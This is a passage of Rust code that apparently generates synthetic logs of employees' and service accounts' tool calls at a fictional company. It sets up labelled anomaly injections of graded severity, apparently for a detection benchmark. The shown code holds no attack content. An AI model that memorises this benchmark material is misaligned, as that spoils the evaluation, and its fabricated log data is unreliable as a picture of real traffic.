                p.new_role = Some((15, Role::Eng));
                p.notes.push("moves to engineering, day 15");
            }
            (Role::Sales, Zone::Berlin) if gi == 0 => {
                p.trip = Some((14, 18, Zone::NewYork));
                p.notes.push("trip to New York, days 14-18");
            }
            _ => {}
        }
        if p.trip.is_some() || p.first_day > 0 {
            p.off.clear();
        }
        out.push(p);
    }
    let services = [
        ("ci-bot", Svc::Ci, true),
        ("jira-sync", Svc::Sync, true),
        ("k8s-monitor", Svc::Monitor, true),
        ("etl-nightly", Svc::Etl, true),
        ("weekly-reports", Svc::Reports, false),
    ];
    for (name, svc, listed) in services {
        out.push(Person {
            id: name.into(),
            role: Role::Eng,
            zone: Zone::Berlin,
            svc: Some(svc),
            listed,
            stdio: false,
            start_min: 0.,
            len_min: 1440.,
            eph: 0.,
            ep_mean: 1.,
            remote_p: 0.,
            vpn_p: 0.,
            evening_p: 0.,
            weekend_p: 0.,
            client: Client::Goose,
            second: false,
            update_day: 0,
            cc_update_day: 0,
            home: [0; 4],
            home2: [0; 4],
            dhcp_day: usize::MAX,
            office: [10, 50, 1, 11],
            first_day: 0,
            last_day: 999,
            off: HashSet::new(),
            team: 3,
            repos: TEAMS[3].3.to_vec(),
            trip: None,
            new_role: None,
            early_first: false,
            notes: vec![if listed {
                "service account (listed)"
            } else {
                "service account, not listed in the config"
            }],
        });
    }
    out
}

/// How a call ends, when the generator decides rather than the tool's error rate.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum End {
    Sample,
    Success,
    /// `isError: true` with this text.
    ToolError(&'static str),
    /// A JSON-RPC error with this message.
    Rpc(&'static str),
    Timeout,
}

const TOOL_ERRORS: &[&str] = &[
    "upstream returned 502 Bad Gateway",
    "rate limited: retry after 30s",
    "not found",
    "invalid arguments",
    "permission denied",
];
const RPC_ERRORS: &[&str] = &["Internal error", "Invalid params", "Request failed"];

/// One call: its access event and its end event.
struct CallRec {
    user: usize,
    tool: &'static ToolDef,
    at_us: i64,
    exec_us: u64,
    out_bytes: u64,
    end: End,
    args: Value,
    ip: Option<[u8; 4]>,
    client: String,
    era2026: bool,
    session: Ulid,
    request_id: u32,
    access_id: Ulid,
    end_id: Ulid,
    access_tags: Vec<&'static str>,
    end_tags: Vec<&'static str>,
    role: &'static str,
}

/// Where a call comes from: the address, client, session and role it carries.
#[derive(Clone)]
struct From {
    ip: Option<[u8; 4]>,
    client: String,
    era2026: bool,
    session: Ulid,
    role: &'static str,
}

/// What to make: a call of `tool` at `at` (ms from the start) by `user`, with multipliers
/// on its sampled execution time and output size and, optionally, a forced end.
struct Spec {
    user: usize,
    at: i64,
    tool: &'static str,
    args: Value,
    exec_mult: f64,
    out_mult: f64,
    end: End,
    extra_tags: &'static [&'static str],
}

struct Gen {
    people: Vec<Person>,
    days: usize,
    start_ms: i64,
    calls: Vec<CallRec>,
    /// Benign calls per (person, day), in time order.
    log: HashMap<(usize, usize), Vec<usize>>,
    requests: HashMap<Ulid, u32>,
    sres: Vec<usize>,
    incident_team: Vec<usize>,
}

fn ip_text(ip: [u8; 4]) -> String {
    format!("{}.{}.{}.{}", ip[0], ip[1], ip[2], ip[3])
}

fn rfc3339(ms: i64) -> String {
    humantime::format_rfc3339_seconds(UNIX_EPOCH + Duration::from_millis(ms as u64)).to_string()
}

const CUSTOMER_DOMAINS: &[&str] = &[
    "globex.com",
    "initech.io",
    "umbrella-corp.com",
    "hooli.com",
    "piedpiper.net",
    "stark-industries.com",
    "wayne-ent.com",
    "acme-retail.de",
    "contoso.com",
    "fabrikam.co",
    "gmail.com",
    "outlook.com",
];
const CODE_TERMS: &[&str] = &[
    "retry backoff",
    "OrderStatus",
    "fn handle_refund",
    "TODO remove",
    "deprecated",
    "timeout config",
    "feature flag",
    "useEffect",
    "kafka consumer",
    "rate limiter",
    "idempotency key",
    "migration",
];
const PATHS: &[&str] = &[
    "src/main.rs",
    "src/lib.rs",
    "README.md",
    "Cargo.toml",
    "src/handlers/orders.rs",
    "package.json",
    "src/api/client.ts",
    "Dockerfile",
    "docs/architecture.md",
    "migrations/0042_add_index.sql",
    "src/config.rs",
    "tests/integration.rs",
    ".github/workflows/ci.yml",
    "helm/values.yaml",
];
const URLS: &[&str] = &[
    "https://docs.rs/tokio/latest/tokio/",
    "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API",
    "https://kubernetes.io/docs/concepts/workloads/pods/",
    "https://stackoverflow.com/questions/tagged/rust",
    "https://github.com/serde-rs/serde/issues",
    "https://www.postgresql.org/docs/16/sql-select.html",
    "https://react.dev/reference/react/useEffect",
    "https://status.aws.amazon.com/",
    "https://www.rfc-editor.org/rfc/rfc9110",
];

/// The arguments a person's call of `tool` carries on `day`.
fn args_for(name: &str, p: &Person, day: usize, rng: &mut Rng) -> Value {
    let (ns, project, channel, _) = TEAMS[p.team];
    let repo = *rng.pick(&p.repos);
    match name {
        "search_code" => json!({"query": rng.pick(CODE_TERMS), "repo": format!("acme/{repo}")}),
        "get_file_contents" => {
            json!({"owner": "acme", "repo": repo, "path": rng.pick(PATHS)})
        }
        "list_commits" => json!({"owner": "acme", "repo": repo, "sha": "main"}),
        "create_pull_request" => json!({"owner": "acme", "repo": repo,
            "title": format!("{project}-{}: {}", 100 + rng.below(900), rng.pick(CODE_TERMS)),
            "head": format!("{}/{}", p.id.split('.').next().unwrap_or("x"), rng.below(1000)), "base": "main"}),
        "comment_issue" => {
            json!({"owner": "acme", "repo": repo, "issue_number": 1 + rng.below(4000),
            "body": "Looks good; one nit on the retry path."})
        }
        "jira_search" => json!({"jql": format!("project = {project} AND status = \"{}\"",
            rng.pick(&["In Progress", "To Do", "In Review"]))}),
        "jira_get_issue" | "jira_update_issue" => {
            let key = format!("{project}-{}", 100 + rng.below(2900));
            if name == "jira_get_issue" {
                json!({"issue_key": key})
            } else {
                json!({"issue_key": key, "status": rng.pick(&["In Review", "Done", "In Progress"])})
            }
        }
        "docs_search" | "notion_search" | "slack_search" | "web_search" => {
            json!({"query": rng.pick(CODE_TERMS)})
        }
        "docs_read_page" | "notion_read_page" => {
            json!({"page_id": format!("{:x}", rng.u64() & 0xFFFF_FFFF)})
        }
        "kubectl_get" => {
            json!({"resource": rng.pick(&["pods", "deployments", "events", "services"]),
            "namespace": ns})
        }
        "kubectl_logs" => {
            json!({"pod": format!("{}-{:x}", rng.pick(&p.repos), rng.u64() & 0xFFFFF),
            "namespace": ns, "tail": 200})
        }
        "kubectl_rollout_restart" => json!({"deployment": repo, "namespace": ns}),
        "sentry_get_issue" => json!({"issue_id": format!("{}-{:X}", project, rng.u64() & 0xFFF)}),
        "pagerduty_ack" => json!({"incident_id": format!("Q{:X}", rng.u64() & 0xFFFFFF)}),
        "vault_read_secret" => json!({"path": format!("secret/data/{ns}/{repo}")}),
        "web_fetch" => json!({"url": rng.pick(URLS)}),
        "slack_post_message" => {
            json!({"channel": channel, "text": "Deployed to staging, please have a look."})
        }
        "email_search" => {
            json!({"query": rng.pick(&["invoice", "meeting notes", "contract renewal", "from:finance@acme.example"])})
        }
        "send_email" => {
            let to = match p.role {
                Role::Support | Role::Sales => {
                    format!("{}@{}", rng.pick(FIRST), rng.pick(CUSTOMER_DOMAINS))
                }
                _ => format!("{}.{}@acme.example", rng.pick(FIRST), rng.pick(LAST)),
            };
            json!({"to": to, "subject": rng.pick(&["Re: your ticket", "Follow-up", "Invoice question", "Meeting notes", "Quick question"])})
        }
        "calendar_create_event" => {
            json!({"title": "Sync", "attendees": format!("{}@acme.example", rng.pick(FIRST))})
        }
        "crm_search" => {
            if rng.chance(0.3) {
                json!({"query": format!("{}@{}", rng.pick(FIRST), rng.pick(CUSTOMER_DOMAINS))})
            } else {
                json!({"query": rng.pick(&["Globex", "Initech renewal", "Hooli", "open cases", "Umbrella"])})
            }
        }
        "crm_get_customer" => {
            json!({"customer_id": format!("CUST-{}", 100_000 + rng.below(50_000))})
        }
        "crm_update_contact" => {
            json!({"customer_id": format!("CUST-{}", 100_000 + rng.below(50_000)),
            "field": rng.pick(&["phone", "address", "status"])})
        }
        "erp_get_invoice" => json!({"invoice_id": format!("INV-2026-{}", 1000 + rng.below(9000))}),
        "erp_export_ledger" => json!({"period": if day < 27 { "2026-10" } else { "2026-11" },
            "entity": rng.pick(&["acme-us", "acme-de", "acme-in"])}),
        "payments_lookup_card" => {
            json!({"transaction_id": format!("txn_{:x}", rng.u64() & 0xFFFF_FFFF)})
        }
        "warehouse_run_sql" => {
            let sql = match p.role {
                Role::Finance => "SELECT account, sum(debit) - sum(credit) FROM gl_entries WHERE period = '2026-10' GROUP BY account",
                _ => *rng.pick(&[
                    "SELECT region, date_trunc('week', created_at) AS wk, sum(amount) FROM fact_orders GROUP BY 1, 2",
                    "SELECT plan, count(*) FROM dim_subscriptions WHERE active GROUP BY plan",
                    "SELECT cohort, retained_d30 FROM mart_retention ORDER BY cohort DESC LIMIT 24",
                    "SELECT sku, sum(qty) FROM fact_order_lines WHERE created_at > current_date - 7 GROUP BY sku",
                ]),
            };
            json!({"sql": sql, "warehouse": "analytics_wh"})
        }
        "postgres_query" => json!({"database": "orders_replica",
            "sql": format!("SELECT id, status, updated_at FROM orders WHERE id = {}", 10_000 + rng.below(900_000))}),
        "sheets_update" => {
            json!({"spreadsheet": rng.pick(&["Q4 close", "Pipeline", "Headcount plan"]),
            "range": "A1:F200"})
        }
        "read_file" | "write_file" => {
            json!({"path": format!("/home/{}/src/{}/{}", p.id, repo, rng.pick(PATHS))})
        }
        _ => json!({}),
    }
}

/// Where a working window's calls come from.
#[derive(Clone, Copy)]
enum Loc {
    Office(Zone),
    Visitor(Zone),
    Home,
    Vpn,
    Hotel,
    Mobile,
    Stdio,
}

#[derive(Clone, Copy)]
struct Win {
    from: i64,
    to: i64,
    ip: Option<[u8; 4]>,
    rate: f64,
    task: Option<Task>,
}

impl Gen {
    fn ip_at(&self, pi: usize, loc: Loc, day: usize, rng: &mut Rng) -> Option<[u8; 4]> {
        let p = &self.people[pi];
        match loc {
            Loc::Office(z) => Some(office_ip(z, day, p.office)),
            Loc::Visitor(z) => Some(office_ip(z, day, [10, 0, 9, p.office[3]])),
            Loc::Home => Some(if day >= p.dhcp_day { p.home2 } else { p.home }),
            Loc::Vpn => Some(rng.ip(10, if day >= VPN_RENUMBER_DAY { 98 } else { 99 })),
            Loc::Hotel => Some(match p.trip.map(|t| t.2) {
                Some(Zone::NewYork) => [66, 108, 14, 20 + (pi % 200) as u8],
                _ => [87, 123, 40, 20 + (pi % 200) as u8],
            }),
            Loc::Mobile => Some(match p.zone {
                Zone::NewYork => rng.ip(172, 58),
                _ => rng.ip(80, 187),
            }),
            Loc::Stdio => None,
        }
    }

    fn remote(&self, pi: usize, rng: &mut Rng) -> Loc {
        let p = &self.people[pi];
        if p.stdio {
            Loc::Stdio
        } else if rng.chance(p.vpn_p) {
            Loc::Vpn
        } else {
            Loc::Home
        }
    }

    /// The working windows of a person's day: where they are and how busy.
    fn windows(&self, pi: usize, day: usize, rng: &mut Rng) -> Vec<Win> {
        let p = &self.people[pi];
        let mut out = Vec::new();
        if day < p.first_day || day > p.last_day {
            return out;
        }
        let wd = day % 7;
        let daily = rng.lognormal(1.0, 0.35) * if day < p.first_day + 5 { 0.6 } else { 1.0 };
        let rate = p.eph * daily;
        let mut win =
            |this: &Gen, zone: Zone, a: f64, b: f64, loc: Loc, rate: f64, rng: &mut Rng| {
                let ip = this.ip_at(pi, loc, day, rng);
                out.push(Win {
                    from: zone.at(day, a),
                    to: zone.at(day, b),
                    ip,
                    rate,
                    task: None,
                });
            };
        if let Some((a, b, dest)) = p.trip
            && (a..=b + 1).contains(&day)
        {
            let home = p.zone;
            if day == a {
                win(self, home, 420., 510., Loc::Home, rate, rng);
                win(self, dest, 840., 1080., Loc::Hotel, rate, rng);
            } else if day == b {
                win(self, dest, 480., 720., Loc::Hotel, rate, rng);
            } else if day == b + 1 {
                win(self, home, 780., 1020., Loc::Home, rate, rng);
            } else {
                let s = p.start_min + 20. * rng.normal();
                win(self, dest, s, s + p.len_min, Loc::Visitor(dest), rate, rng);
            }
            return out;
        }
        if p.off.contains(&day) {
            return out;
        }
        let role = p.role_on(day);
        let holiday = (p.zone == Zone::Bangalore && day == BLR_HOLIDAY)
            || (day == US_HOLIDAY
                && p.zone == Zone::NewYork
                && matches!(role, Role::Finance | Role::Sales));
        let week = day / 7;
        let (working, start, len) = match role {
            Role::PartTime => (wd <= 2, p.start_min, 240.),
            Role::Support => {
                let early = week.is_multiple_of(2) == p.early_first;
                let rota = (week + pi).is_multiple_of(3);
                let working = (wd < 5 && !(rota && wd == 2)) || (rota && wd == 5);
                (working, if early { 360. } else { 840. }, 480.)
            }
            _ => (wd < 5, p.start_min, p.len_min),
        };
        let mut worked = false;
        if working && !holiday {
            worked = true;
            let s = start + 20. * rng.normal();
            let mut e = s + len + 35. * rng.normal();
            let mut rate = rate;
            if role == Role::Finance && MONTH_END_DAYS.contains(&day) {
                e += 150.;
                rate *= 2.2;
            }
            let loc = if p.stdio {
                Loc::Stdio
            } else if rng.chance(p.remote_p) {
                self.remote(pi, rng)
            } else {
                Loc::Office(p.zone)
            };
            let mut parts = vec![(s, e, loc)];
            if role == Role::Sales && !p.stdio && rng.chance(0.25) {
                parts = vec![(s, 810., loc), (840., e, Loc::Mobile)];
            }
            for (a, b, loc) in parts {
                if !matches!(role, Role::Support | Role::PartTime)
                    && a < 720.
                    && b > 800.
                    && rng.chance(0.75)
                {
                    let l0 = 735. + 25. * rng.normal();
                    let l1 = l0 + 35. + 20. * rng.f();
                    win(self, p.zone, a, l0, loc, rate, rng);
                    win(self, p.zone, l1, b, loc, rate, rng);
                } else {
                    win(self, p.zone, a, b, loc, rate, rng);
                }
            }
            if rng.chance(p.evening_p) {
                let a = 1260. + 90. * rng.f();
                let loc = self.remote(pi, rng);
                win(self, p.zone, a, a + rng.range(15., 45.), loc, 1.5, rng);
            }
        }
        if !worked && wd >= 5 && rng.chance(p.weekend_p) {
            let a = 660. + 240. * rng.f();
            let loc = self.remote(pi, rng);
            win(self, p.zone, a, a + rng.range(20., 60.), loc, 1.2, rng);
        }
        // On call: night pages (and daytime ones at weekends), from home or the VPN.
        if role == Role::Sre && !p.off.contains(&day) && self.sres[week % self.sres.len()] == pi {
            let pages = rng.poisson(if wd >= 5 { 1.2 } else { 0.6 });
            for _ in 0..pages {
                let a = if wd >= 5 && rng.chance(0.6) {
                    rng.range(540., 1320.)
                } else {
                    rng.range(0., 360.)
                };
                let loc = self.remote(pi, rng);
                let ip = self.ip_at(pi, loc, day, rng);
                out.push(Win {
                    from: p.zone.at(day, a),
                    to: p.zone.at(day, a + rng.range(15., 60.)),
                    ip,
                    rate: 5.,
                    task: Some(INCIDENT),
                });
            }
        }
        if day == INCIDENT_DAY && self.incident_team.contains(&pi) {
            let from = INCIDENT_DAY as i64 * DAY + 2 * HOUR + 40 * MIN + rng.below(25) as i64 * MIN;
            let loc = self.remote(pi, rng);
            let ip = self.ip_at(pi, loc, day, rng);
            out.push(Win {
                from,
                to: from + rng.range(60., 120.) as i64 * MIN,
                ip,
                rate: 6.,
                task: Some(INCIDENT),
            });
        }
        out
    }

    /// The concrete tool for a task's entry on `day` (the Confluence to Notion move).
    fn resolve(
        &self,
        pi: usize,
        name: &'static str,
        day: usize,
        rng: &mut Rng,
    ) -> (&'static str, bool) {
        let p = &self.people[pi];
        let (old, new) = match name {
            "docs:search" => ("docs_search", "notion_search"),
            "docs:read" => ("docs_read_page", "notion_read_page"),
            n => return (n, false),
        };
        let site = match p.zone {
            Zone::Berlin => 0,
            Zone::NewYork => 1,
            Zone::Bangalore => 2,
        };
        if day >= DOCS_RETIRED_DAY {
            if day < DOCS_RETIRED_DAY + 2 && rng.chance(0.1) {
                return (old, true);
            }
            return (new, false);
        }
        let avail = NOTION_ROLLOUT[site];
        if day >= avail && rng.chance((0.3 + 0.15 * (day - avail) as f64).min(1.0)) {
            (new, false)
        } else {
            (old, false)
        }
    }

    fn draw_tool(
        &self,
        pi: usize,
        day: usize,
        task: Option<Task>,
        rng: &mut Rng,
    ) -> (&'static str, bool) {
        let p = &self.people[pi];
        let task = task.unwrap_or_else(|| rng.weighted(tasks(p.role_on(day), p.stdio)));
        let name = rng.weighted(task);
        self.resolve(pi, name, day, rng)
    }

    fn request_id(&mut self, session: Ulid) -> u32 {
        let n = self.requests.entry(session).or_insert(0);
        *n += 1;
        *n
    }

    /// Makes a call from `spec` coming from `from`; returns its index.
    fn make(&mut self, spec: Spec, from: &From, rng: &mut Rng) -> usize {
        let td = tool(spec.tool);
        let mut exec = rng.lognormal(td.exec_ms, td.exec_sigma) * spec.exec_mult;
        let mut out = rng.lognormal(td.out_b, td.out_sigma) * spec.out_mult;
        let mut err = td.err;
        let mut timeout = 0.003;
        if td.name == "web_fetch" && (WEB_FETCH_BAD_HOUR.0..WEB_FETCH_BAD_HOUR.1).contains(&spec.at)
        {
            err = 0.4;
            exec *= 2.5;
        }
        if td.upstream == "jira" && (JIRA_SLOW.0..JIRA_SLOW.1).contains(&spec.at) {
            exec *= 6.0;
            timeout = 0.1;
        }
        let day = (spec.at / DAY) as usize;
        if td.name == "erp_export_ledger" && MONTH_END_DAYS.contains(&day) {
            out *= 3.0;
        }
        let end = match spec.end {
            End::Sample => {
                if rng.chance(timeout) {
                    End::Timeout
                } else if rng.chance(err) {
                    if rng.chance(0.7) {
                        let e = TOOL_ERRORS[rng.below(TOOL_ERRORS.len())];
                        End::ToolError(e)
                    } else {
                        let e = RPC_ERRORS[rng.below(RPC_ERRORS.len())];
                        End::Rpc(e)
                    }
                } else {
                    End::Success
                }
            }
            e => e,
        };
        match end {
            End::Timeout => {
                exec = 60_000.0;
                out = 0.0;
            }
            End::Rpc(_) => {
                exec *= 0.3;
                out = 200.0;
            }
            End::ToolError(_) => out = out.min(400.0),
            _ => {}
        }
        let exec_us = (exec * 1000.0).max(2000.0) as u64;
        let at_us = spec.at * 1000 + rng.below(1000) as i64;
        let access_ms = (self.start_ms + at_us / 1000) as u64;
        let end_ms = (self.start_ms + (at_us + exec_us as i64) / 1000) as u64;
        let mut access_tags = Vec::new();
        let personal = spec.args.as_object().is_some_and(|m| {
            m.values()
                .any(|v| v.as_str().is_some_and(|s| s.contains('@')))
        });
        if personal {
            access_tags.push("gdpr");
        }
        let mut end_tags = access_tags.clone();
        if end == End::Success && rng.chance(td.tag_p) {
            for t in td.tags {
                if !end_tags.contains(t) {
                    end_tags.push(t);
                }
            }
        }
        for t in spec.extra_tags {
            if !end_tags.contains(t) {
                end_tags.push(t);
            }
        }
        let request_id = self.request_id(from.session);
        let rec = CallRec {
            user: spec.user,
            tool: td,
            at_us,
            exec_us,
            out_bytes: out as u64,
            end,
            args: spec.args,
            ip: from.ip,
            client: from.client.clone(),
            era2026: from.era2026,
            session: from.session,
            request_id,
            access_id: rng.ulid(access_ms),
            end_id: rng.ulid(end_ms),
            access_tags,
            end_tags,
            role: from.role,
        };
        self.calls.push(rec);
        self.calls.len() - 1
    }

    /// A person's benign traffic for the month.
    fn person(&mut self, pi: usize, seed: u64) {
        let mut rng = Rng::new(seed, 1 + pi as u64);
        for day in 0..self.days {
            let wins = self.windows(pi, day, &mut rng);
            for w in wins {
                self.fill(pi, day, &w, &mut rng);
            }
        }
    }

    fn fill(&mut self, pi: usize, day: usize, w: &Win, rng: &mut Rng) {
        // The month starts at midnight UTC: nothing before it.
        let w = &Win {
            from: w.from.max(0),
            ..*w
        };
        let mut sessions: Vec<(Client, Ulid)> = Vec::new();
        let mut t = w.from + rng.exp(HOUR as f64 / w.rate) as i64;
        while t < w.to {
            let (primary, second, ep_mean) = {
                let p = &self.people[pi];
                (p.client, p.second, p.ep_mean)
            };
            let c = if second && rng.chance(0.3) {
                Client::ClaudeCode
            } else {
                primary
            };
            let session = match sessions.iter().find(|s| s.0 == c) {
                Some(s) => s.1,
                None => {
                    let s = rng.ulid((self.start_ms + t) as u64);
                    sessions.push((c, s));
                    s
                }
            };
            let (client, era2026) = self.people[pi].client_on(c, day);
            let from = From {
                ip: w.ip,
                client,
                era2026,
                session,
                role: self.people[pi].role_on(day).name(),
            };
            let task = w.task.unwrap_or_else(|| {
                rng.weighted(tasks(self.people[pi].role_on(day), self.people[pi].stdio))
            });
            let mut n = 1 + rng.exp(ep_mean - 1.0).round() as usize;
            if rng.chance(0.06) {
                n *= 4;
            }
            let mut prev: Option<&'static str> = None;
            for _ in 0..n {
                let (name, retired) = match prev {
                    Some(p) if rng.chance(0.4) => (p, false),
                    _ => self.draw_tool(pi, day, Some(task), rng),
                };
                let args = args_for(name, &self.people[pi], day, rng);
                let i = self.make(
                    Spec {
                        user: pi,
                        at: t,
                        tool: name,
                        args,
                        exec_mult: 1.0,
                        out_mult: 1.0,
                        end: if retired {
                            End::ToolError("tool retired: use notion_search / notion_read_page")
                        } else {
                            End::Sample
                        },
                        extra_tags: &[],
                    },
                    &from,
                    rng,
                );
                self.log.entry((pi, day)).or_default().push(i);
                t += self.calls[i].exec_us as i64 / 1000
                    + rng.lognormal(4500., 0.8).clamp(250., 120_000.) as i64;
                prev = Some(name);
                if t > w.to + 20 * MIN {
                    break;
                }
            }
            t += rng.exp(HOUR as f64 / w.rate) as i64;
        }
    }

    /// The service accounts' traffic.
    fn services(&mut self, seed: u64) {
        for pi in 0..self.people.len() {
            let Some(svc) = self.people[pi].svc else {
                continue;
            };
            let mut rng = Rng::new(seed, 10_000 + pi as u64);
            let (client, auth_role) = match svc {
                Svc::Ci => ("acme-ci/3.2.1", "service"),
                Svc::Sync => ("jira-sync/1.4.0", "service"),
                Svc::Monitor => ("kube-watch/0.9.3", "service"),
                Svc::Etl => ("airflow-mcp/2.10.2", "service"),
                Svc::Reports => ("report-runner/1.0.7", "service"),
            };
            for day in 0..self.days {
                let node = |rng: &mut Rng| {
                    Some([
                        10,
                        50,
                        if day >= DC_ROTATION_DAY { 2 } else { 1 },
                        11 + rng.below(4) as u8,
                    ])
                };
                let session = rng.ulid((self.start_ms + day as i64 * DAY) as u64);
                let from = From {
                    ip: node(&mut rng),
                    client: client.into(),
                    era2026: false,
                    session,
                    role: auth_role,
                };
                let mut jobs: Vec<(i64, &'static str, Value)> = Vec::new();
                let base = day as i64 * DAY;
                let wd = day % 7;
                match svc {
                    Svc::Ci => {
                        for h in 0..24 {
                            let hf = h as f64;
                            let lambda = if wd < 5 {
                                1.0 + 10.0 * f64::from((7.0..16.0).contains(&hf))
                                    + 8.0 * f64::from((13.0..22.0).contains(&hf))
                                    + 6.0 * f64::from((4.0..12.0).contains(&hf))
                            } else {
                                1.0
                            };
                            for _ in 0..rng.poisson(lambda) {
                                let t = base + h * HOUR + rng.below(HOUR as usize) as i64;
                                let name = rng.weighted(&[
                                    ("get_file_contents", 3.),
                                    ("list_commits", 2.),
                                    ("comment_issue", 2.),
                                    ("create_pull_request", 0.2),
                                ]);
                                jobs.push((t, name, Value::Null));
                            }
                        }
                        let nightly = base + HOUR + rng.below(5) as i64 * MIN;
                        for i in 0..30 + rng.below(20) {
                            let name = if i % 3 == 0 {
                                "list_commits"
                            } else {
                                "get_file_contents"
                            };
                            jobs.push((nightly + i as i64 * 15_000, name, Value::Null));
                        }
                    }
                    Svc::Sync => {
                        let mut t = base + rng.below(120_000) as i64;
                        while t < base + DAY {
                            jobs.push((
                                t,
                                "jira_search",
                                json!({"jql": "updated >= -5m ORDER BY updated"}),
                            ));
                            t += 105_000 + rng.below(30_000) as i64;
                        }
                    }
                    Svc::Monitor => {
                        let mut t = base + rng.below(300_000) as i64;
                        while t < base + DAY {
                            jobs.push((t, "kubectl_get", json!({"resource": "pods", "namespace": "all", "field_selector": "status.phase!=Running"})));
                            t += 295_000 + rng.below(10_000) as i64;
                        }
                    }
                    Svc::Etl => {
                        let (from_t, n) = if day == BACKFILL_DAY {
                            (base + HOUR, 1200)
                        } else {
                            (
                                base + 2 * HOUR + rng.below(4) as i64 * MIN,
                                150 + rng.below(100),
                            )
                        };
                        let mut t = from_t;
                        for i in 0..n {
                            jobs.push((t, "warehouse_run_sql", json!({"sql": format!("INSERT INTO mart.daily_{} SELECT * FROM staging.batch_{}", i % 17, i), "warehouse": "etl_wh"})));
                            t += if day == BACKFILL_DAY { 12_000 } else { 9_000 }
                                + rng.below(4000) as i64;
                        }
                    }
                    Svc::Reports => {
                        let runs = if wd == 0 {
                            20
                        } else if day == 27 {
                            40
                        } else {
                            0
                        };
                        let mut t = base + 6 * HOUR + rng.below(3) as i64 * MIN;
                        for _ in 0..runs {
                            jobs.push((t, "warehouse_run_sql", Value::Null));
                            t += 20_000 + rng.below(10_000) as i64;
                        }
                        for _ in 0..(if day == 27 { 3 } else { usize::from(runs > 0) }) {
                            t += 30_000;
                            jobs.push((t, "send_email", json!({"to": "leadership@acme.example", "subject": "KPI report", "attachment": "kpis.pdf"})));
                        }
                    }
                }
                jobs.sort_by_key(|j| j.0);
                for (t, name, args) in jobs {
                    let args = if args.is_null() {
                        args_for(name, &self.people[pi], day, &mut rng)
                    } else {
                        args
                    };
                    let mut f = from.clone();
                    if svc == Svc::Ci {
                        f.ip = node(&mut rng);
                    }
                    let i = self.make(
                        Spec {
                            user: pi,
                            at: t,
                            tool: name,
                            args,
                            exec_mult: 1.0,
                            out_mult: if svc == Svc::Etl { 20.0 } else { 1.0 },
                            end: End::Sample,
                            extra_tags: &[],
                        },
                        &f,
                        &mut rng,
                    );
                    self.log.entry((pi, day)).or_default().push(i);
                }
            }
        }
    }
}

/// One injected anomaly, as the labels file has it.
struct Label {
    family: &'static str,
    kind: &'static str,
    severity: &'static str,
    subject: Value,
    calls: Vec<usize>,
    note: String,
}

/// The injections' own random stream, and who is already taken on which days.
struct Inj {
    rng: Rng,
    used: HashSet<usize>,
    busy: HashSet<(usize, usize)>,
}

const SEVERITIES: [&str; 3] = ["obvious", "moderate", "subtle"];

/// What a person's calls may be made of: a tool, its arguments, and how it ends.
type Make<'a> = dyn FnMut(&Gen, &mut Rng, usize) -> Spec + 'a;

impl Gen {
    fn day_calls(&self, pi: usize, day: usize) -> &[usize] {
        self.log.get(&(pi, day)).map_or(&[], Vec::as_slice)
    }

    fn at_ms(&self, i: usize) -> i64 {
        self.calls[i].at_us / 1000
    }

    fn source_of(&self, i: usize) -> From {
        let c = &self.calls[i];
        From {
            ip: c.ip,
            client: c.client.clone(),
            era2026: c.era2026,
            session: c.session,
            role: c.role,
        }
    }

    /// A person and a day for an injection: a person nobody else's label has (while there
    /// are any), not busy within a day, and `ok` for that day.
    fn pick(
        &self,
        st: &mut Inj,
        need_ip: bool,
        ok: impl Fn(&Gen, usize, usize) -> bool,
    ) -> Option<(usize, usize)> {
        for attempt in 0..20_000 {
            let pi = st.rng.below(self.people.len());
            let day = 7 + st.rng.below(self.days - 8);
            let p = &self.people[pi];
            if !p.human() || p.special() || (need_ip && p.stdio) {
                continue;
            }
            if attempt < 15_000 && st.used.contains(&pi) {
                continue;
            }
            if (day - 1..=day + 1).any(|d| st.busy.contains(&(pi, d))) {
                continue;
            }
            if ok(self, pi, day) {
                st.used.insert(pi);
                for d in day - 1..=day + 1 {
                    st.busy.insert((pi, d));
                }
                return Some((pi, day));
            }
        }
        None
    }

    /// A benign call of the person's ordinary day (not the last tenth of it): the injected
    /// calls take its address, client and session.
    fn anchor(&self, pi: usize, day: usize, rng: &mut Rng, first_half: bool) -> usize {
        let calls = self.day_calls(pi, day);
        let n = if first_half {
            calls.len() / 2
        } else {
            calls.len() * 9 / 10
        };
        calls[rng.below(n.max(1))]
    }

    /// `n` calls at random times in `[t0, t1]` made by `f`.
    fn spread(
        &mut self,
        from: &From,
        t0: i64,
        t1: i64,
        n: usize,
        rng: &mut Rng,
        f: &mut Make,
    ) -> Vec<usize> {
        let mut times: Vec<i64> = (0..n)
            .map(|_| t0 + (rng.f() * (t1 - t0).max(1) as f64) as i64)
            .collect();
        times.sort_unstable();
        times
            .into_iter()
            .enumerate()
            .map(|(i, t)| {
                let mut spec = f(self, rng, i);
                spec.at = t;
                self.make(spec, from, rng)
            })
            .collect()
    }

    fn ordinary(&self, pi: usize, day: usize, rng: &mut Rng) -> Spec {
        let (name, _) = self.draw_tool(pi, day, None, rng);
        let (name, args) = if name.starts_with("docs_") && day >= DOCS_RETIRED_DAY {
            let n = if name == "docs_search" {
                "notion_search"
            } else {
                "notion_read_page"
            };
            (n, args_for(n, &self.people[pi], day, rng))
        } else {
            (name, args_for(name, &self.people[pi], day, rng))
        };
        Spec {
            user: pi,
            at: 0,
            tool: name,
            args,
            exec_mult: 1.0,
            out_mult: 1.0,
            end: End::Sample,
            extra_tags: &[],
        }
    }

    /// The tool the person called most on `day` (among `allowed`, if given).
    fn top_tool(&self, pi: usize, day: usize, allowed: Option<&[&str]>) -> Option<&'static str> {
        let mut counts: BTreeMap<&'static str, usize> = BTreeMap::new();
        for &i in self.day_calls(pi, day) {
            let name = self.calls[i].tool.name;
            if allowed.is_none_or(|a| a.contains(&name)) {
                *counts.entry(name).or_default() += 1;
            }
        }
        counts
            .into_iter()
            .max_by_key(|(n, c)| (*c, *n))
            .map(|(n, _)| n)
    }

    fn new_session(&self, from: &From, t: i64, rng: &mut Rng) -> From {
        let mut f = from.clone();
        f.session = rng.ulid((self.start_ms + t) as u64);
        f
    }

    fn label(
        &self,
        family: &'static str,
        kind: &'static str,
        sev: usize,
        subject: Value,
        calls: Vec<usize>,
        note: String,
    ) -> Label {
        Label {
            family,
            kind,
            severity: SEVERITIES[sev],
            subject,
            calls,
            note,
        }
    }

    fn user(&self, pi: usize) -> Value {
        json!({"user": self.people[pi].id})
    }

    fn user_tool(&self, pi: usize, tool: &str) -> Value {
        json!({"user": self.people[pi].id, "tool": tool})
    }

    fn inject(
        &mut self,
